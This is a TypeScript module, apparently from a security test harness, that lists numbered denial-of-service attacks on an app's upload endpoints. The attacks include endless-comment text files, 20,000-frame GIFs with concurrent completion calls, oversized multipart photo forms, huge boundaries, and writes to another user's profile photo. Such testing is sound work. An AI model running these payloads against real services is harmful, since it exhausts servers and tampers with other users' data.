import {
  beginUpload,
  completeUpload,
  removeUnsaved,
  sendChunk,
} from '@byggtun/shared/contract/attachmentCalls';

import { type Arena, type Attack, times } from '../arena';
import { gifOfFrames } from '../gifOfFrames';

const upload = async ({ ask }: Arena, fileName: string, bytes: Uint8Array<ArrayBuffer>) => {
  const { bufferGuid } = await ask(beginUpload, { body: { fileName, size: bytes.length } });
  await ask(sendChunk, { params: { bufferGuid }, query: { offset: 0 }, body: new Blob([bytes]) });
  return bufferGuid;
};

/** Sends files, then ends each upload so many times at once. */
const send =
  (count: number, completes: number, file: (at: number) => [name: string, bytes: Uint8Array<ArrayBuffer>]) =>
  (arena: Arena): Promise<void> =>
    times(count, 4, async (at) => {
      const guid = await upload(arena, ...file(at)).catch(() => undefined);
      if (guid === undefined) return arena.note('not taken');
      const path = `/api${completeUpload.path.replace(':bufferGuid', guid)}`;
      await times(completes, completes, () => arena.send(path, { method: 'POST' }));
      // Or the next ones would be refused for how many there are.
      await arena.ask(removeUnsaved, { params: { bufferGuid: guid } }).catch(() => undefined);
    });

const encoder = new TextEncoder();
const boundary = 'x'.repeat(60);

/** A form with so many files of so many bytes. */
const form = (count: number, size: number) => {
  const part = `--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`;
  return encoder.encode(`${`${part}${'a'.repeat(size)}\r\n`.repeat(count)}--${boundary}--\r\n`);
};

/** Files that are made to hang, to fill or to unfold. */
export const files: Attack[] = [
  {
    finding: 1,
    name: 'a text of comments that never end',
    run: send(20, 2, (at) => ['notat.txt', encoder.encode('<!---->'.repeat(60 * (at + 1)))]),
  },
  {
    finding: 7,
    name: 'moving pictures of thousands of frames, each ended eight times at once',
    run: send(10, 8, () => ['film.gif', gifOfFrames(20_000, 1000)]),
  },
  {
    finding: 10,
    name: 'twenty files of 3 MB in the form of the photo',
    run: ({ send: post }) =>
      times(12, 12, () =>
        post('/api/user/piotr@nordretomrer.example/profilephoto', {
          method: 'PUT',
          body: form(20, 3_000_000),
          headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
        }),
      ),
  },
  {
    finding: 10,
    name: 'the same of somebody else’s photo, and boundaries of 14 KB',
    run: ({ send: post }) =>
      times(100, 20, (at) =>
        post('/api/user/kari@byggtun.example/profilephoto', {
          method: 'PUT',
          body: form(1, 1000),
          headers: {
            'content-type': `multipart/form-data; boundary=${at % 2 ? boundary : 'y'.repeat(14_000)}`,
          },
        }),
      ),
  },
];
